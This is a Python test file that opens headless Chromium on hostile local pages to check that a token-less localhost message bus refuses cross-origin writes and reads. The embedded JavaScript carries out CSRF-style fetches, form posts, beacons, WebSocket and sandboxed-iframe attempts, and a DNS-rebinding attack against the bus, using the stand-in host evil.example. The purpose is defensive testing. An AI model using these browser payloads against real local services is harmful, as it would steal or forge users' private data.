"""A real browser, and pages of strangers in it, beside a bus on localhost without tokens: nothing is stored or read.

The page tries what a page can; each attempt bears its name in the URL, so the log of the bus tells that it arrived.
"""
import contextlib
import http.server
import json
import os
import re
import signal
import socket
import subprocess
import threading

import pytest

import bus_send
from tests.kit.page import CHROMIUM
from tests.kit.processes import PATIENCE, Server, wait_until

pytestmark = [
    pytest.mark.skipif(not CHROMIUM, reason="chromium is not installed"),
    pytest.mark.slow("Chromium, which is started for each test"),
]
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
         "--disable-background-networking", "--disable-component-update",
         "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]  # fmt: skip

# Both pages: `read` has what came back, by the name of the attempt. HOME is where they report, BUS is what they attack.
COMMON = """<!doctype html><body><script>
const read = {}, message = JSON.stringify({from: "mallory", to: "bob", msg: "hello"});
const event = (it, ...names) => new Promise(done => names.forEach(name => it.addEventListener(name, () => done(name))));
async function keep(name, answer) { try { read[name] = await (await answer).text(); } catch (error) {} }
function element(kind, attributes, inner = "") {
  const it = Object.assign(document.createElement(kind), attributes, {innerHTML: inner});
  document.body.append(it);
  return it;
}
"""
FOREIGN = COMMON + """
async function load(name, kind, attributes) {
  if (await event(element(kind, attributes), "load", "error") == "load" && kind != "iframe") read[name] = "loaded";
}
async function form(name, enctype, query) {
  const frame = element("iframe", {name}), action = `BUS/send?try=${name}${query}`;
  const inside = `<textarea name='${message.slice(0, -1)}, "x": "'>"}</textarea>`;
  const answered = event(frame, "load");
  element("form", {action, enctype, method: "POST", target: name}, inside).submit();
  await answered;
  try { read[name] = frame.contentDocument.body.innerText; } catch (error) {}
}
async function sandbox(name) {
  const inside = `<script>fetch("BUS/send?try=${name}", {method: "POST", mode: "no-cors", body: '${message}'})
    .finally(() => parent.postMessage("done", "*"))<\\/script>`;
  const answered = event(window, "message");
  element("iframe", {sandbox: "allow-scripts", srcdoc: inside});
  await answered;
}
async function attack() {
  const bob = "BUS/recv?to=bob&since=0&block=false&try=", post = {method: "POST", body: message};
  await Promise.all([
    keep("post", fetch("BUS/send?try=post", {...post, mode: "no-cors", headers: {"Content-Type": "text/plain"}})),
    keep("preflight", fetch("BUS/send?try=preflight", {...post, headers: {"Content-Type": "application/json"}})),
    keep("keepalive", fetch("BUS/send?try=keepalive", {...post, mode: "no-cors", keepalive: true})),
    keep("get", fetch(bob + "get")), keep("log", fetch("BUS/log?try=log", {mode: "no-cors"})),
    form("plain", "text/plain", ""), form("multipart", "multipart/form-data", "&from=mallory&to=bob"),
    form("urlencoded", "application/x-www-form-urlencoded", "&from=mallory&to=bob"),
    load("img", "img", {src: bob + "img"}), load("script", "script", {src: "BUS/log?try=script"}),
    load("style", "link", {rel: "stylesheet", href: bob + "style"}), load("frame", "iframe", {src: bob + "frame"}),
    event(new EventSource(bob + "events"), "open", "error").then(it => { if (it == "open") read.events = it; }),
    event(new WebSocket("BUS".replace("http", "ws") + "/recv?to=bob&since=0&try=socket"), "open", "error")
      .then(it => { if (it == "open") read.socket = it; }),
    sandbox("sandbox"),
  ]);
  navigator.sendBeacon("BUS/send?try=beacon", message);
  navigator.sendBeacon("HOME/report", JSON.stringify(read));
}
attack();
</script>"""
REBOUND = COMMON + """
async function attack() {
  await fetch("/rebind", {method: "POST"});
  const page = {headers: {"X-Agent-Page": "1"}};  // as the page of the bus says it
  await keep("get", fetch("/recv?to=bob&since=0&block=false&try=get", page));
  await keep("post", fetch("/send?try=post", {method: "POST", body: message}));
  navigator.sendBeacon("HOME/report", JSON.stringify(read));
}
attack();
</script>"""
ATTEMPTS = {"post", "preflight", "keepalive", "get", "log", "plain", "multipart", "urlencoded", "img", "script",
            "style", "frame", "events", "socket", "sandbox", "beacon"}  # fmt: skip


class Stranger(http.server.ThreadingHTTPServer):
    """Serves one page and takes its report. `rebind` is called when the page asks for another address of its name."""

    daemon_threads = True

    def __init__(self, page, bus_url):
        super().__init__(("127.0.0.1", 0), Visit)
        self.page = page.replace("BUS", bus_url).replace("HOME", f"http://127.0.0.1:{self.server_port}")
        self.report = None
        threading.Thread(target=self.serve_forever, args=[0.05], daemon=True).start()

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


class Visit(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.answer(self.server.page)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"] or 0))
        if self.path == "/rebind":
            self.server.rebind()
        else:
            self.server.report = json.loads(body)
        self.answer("")

    def answer(self, text):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_):
        pass


class Name:
    """A port that leads to the port `to`, which may change: as if a name had got another address."""

    def __init__(self, to):
        self.to = to
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):  # until it is closed
            while True:
                threading.Thread(target=self.lead, args=[self.listener.accept()[0]], daemon=True).start()

    def lead(self, guest):
        """The first byte decides where to: a browser opens connections before it needs them."""
        with guest, contextlib.suppress(OSError):
            first = guest.recv(65536)
            with socket.create_connection(("127.0.0.1", self.to)) as host:
                host.sendall(first)
                threading.Thread(target=pass_on, args=[guest, host], daemon=True).start()
                pass_on(host, guest)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.listener.close()


def pass_on(one, other):
    with contextlib.suppress(OSError):
        for data in iter(lambda: one.recv(65536), b""):
            other.sendall(data)
        other.shutdown(socket.SHUT_WR)


@contextlib.contextmanager
def visiting(url, place):
    """A browser with nothing in it but this page."""
    browser = subprocess.Popen([CHROMIUM, *FLAGS, f"--user-data-dir={place / 'browser'}", url], start_new_session=True,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    try:
        yield
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait(PATIENCE)


@contextlib.contextmanager
def with_mail(place, *options):
    """A bus that says what it is asked, and on it a secret for bob."""
    with Server(place / "bus.db", "--verbose", *options) as bus:
        secret = bus_send.send("bob", "the secret", url=bus.url, sender="alice")["id"]
        bus.mail = lambda: [message["msg"] for message in json.loads(bus.get("/log"))["messages"]]
        bus.state = lambda: json.loads(bus.get(f"/message/{secret}"))["state"]
        bus.tried = lambda: set(re.findall(r'"\w+ \S*try=(\w+)\S* HTTP/1.1" (\d+)', bus.log.read_text()))
        yield bus


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.example"], ids=["of-another-port", "of-another-site"])
def test_a_foreign_page_stores_nothing_and_reads_nothing(tmp_path, host):
    with with_mail(tmp_path) as bus, Stranger(FOREIGN, bus.url) as site:
        with visiting(f"http://{host}:{site.server_port}/", tmp_path):
            wait_until(lambda: site.report is not None)
            wait_until(lambda: {name for name, _ in bus.tried()} == ATTEMPTS)
        assert {status for _, status in bus.tried()} == {"403"}
        assert site.report == {"post": "", "keepalive": "", "log": ""}, "what is opaque is empty"
        assert bus.mail() == ["the secret"] and bus.state() == "queued"


@pytest.mark.parametrize("allowed", [False, True], ids=["refused", "control"])
def test_a_page_whose_name_was_rebound_stores_nothing_and_reads_nothing(tmp_path, allowed):
    """For the browser it is then of the same origin as the bus. A bus that was given this name falls: the control."""
    options = ["--allow-host", "evil.example"] if allowed else []
    with with_mail(tmp_path, *options) as bus, Stranger(REBOUND, bus.url) as site, Name(site.server_port) as name:
        site.rebind = lambda: setattr(name, "to", bus.port)
        with visiting(f"http://evil.example:{name.port}/", tmp_path):
            wait_until(lambda: site.report is not None)
        assert bus.tried() == {(attempt, "200" if allowed else "403") for attempt in ("get", "post")}
        assert ("the secret" in site.report["get"]) == allowed
        assert bus.mail() == ["the secret"] + ["hello"] * allowed
